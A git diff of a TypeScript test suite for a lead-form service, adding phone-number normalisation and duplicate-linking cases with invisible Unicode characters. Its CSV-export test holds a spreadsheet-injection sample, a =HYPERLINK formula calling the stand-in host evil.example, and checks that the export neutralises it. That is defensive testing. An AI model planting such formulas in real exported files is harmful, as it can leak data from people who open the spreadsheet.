@@ -1,4 +1,4 @@
-import { randomUUID } from 'node:crypto';
+import { randomInt, randomUUID } from 'node:crypto';
 import type { Lead, LeadListExtras, LeadRow } from '@croneai/contracts/endpoints/admin-leads.ts';
 import type { SubmissionReceipt } from '@croneai/contracts/endpoints/lead-form.ts';
 import { leadSubmitted } from '@croneai/contracts/events/leads.ts';
@@ -62,6 +62,39 @@ describe('a submission', () => {
       email: body.email,
       linkedCount: 0,
     });
+  });
+
+  it.each([
+    ['+44\u202a20 7946 0958\u202c', '+442079460958'],
+    ['+44 \u202d20 7946 0958\u202c', '+442079460958'],
+    ['+44 20\u200e 7946 0958', '+442079460958'],
+    ['+44 20\ufe0d 7946 0958', '+442079460958'],
+    ['+44\u00a020\u00a07946\u00a00958', '+442079460958'],
+    ['+44 20\u20117946\u20110958', '+442079460958'],
+    ['+44 (0)20 7946 0958', '+442079460958'],
+    ['+39 06 6982 0000', '+390669820000'],
+    ['+49 (0)176 1234 5678', '+4917612345678'],
+    ['+234 0801 234 5678', '+2348012345678'],
+    ['+1 (212) 555-0142', '+12125550142'],
+  ])('with the number %j is kept as %s and found by both', async (phoneNumber, stored) => {
+    const id = await newLead({ phoneNumber });
+    expect(await getLead(id)).toMatchObject({ phoneNumber: stored, isPhonePossible: true });
+    for (const search of [stored, phoneNumber]) {
+      const { data } = await list({ search, limit: '100' });
+      expect(
+        data.map((lead) => lead.id),
+        search,
+      ).toContain(id);
+    }
+  });
+
+  it('is linked to one with another spelling of its number', async () => {
+    const digits = String(randomInt(10_000_000, 100_000_000));
+    const first = await newLead({ phoneNumber: `+49 (0)176 ${digits}` });
+    const second = await newLead({ phoneNumber: `\u202a+49176\u00a0${digits}\u202c` });
+    expect((await getLead(second)).linked.map(({ id }) => id)).toEqual([first]);
+    for (const search of [`0176 ${digits}`, `(0)176/${digits}`])
+      expect((await list({ search })).data.map(({ id }) => id).sort()).toEqual([first, second].sort());
   });
 
   it('names under each field what is wrong with it (ASVS 2.2.3)', async () => {
@@ -305,7 +338,7 @@ describe('the CSV', () => {
     expect(lines[1]).toContain(`"Zoë, ""the ${mark}"""`);
     expect(lines[2]).toContain(`"'=HYPERLINK(""http://evil.example?${mark}"",""x"")"`);
     expect(lines[2]).toContain(`'-1+2`);
-    expect(lines[2]).toContain(`'+234802`);
+    expect(lines[2]).toMatch(/,\+234802\d{7},/);
     const [recorded] = await harness.waitForMessages('audit', admin.userId, 1);
     expect(recorded?.value.payload).toMatchObject({
       actor: { userId: admin.userId, role: 'admin' },
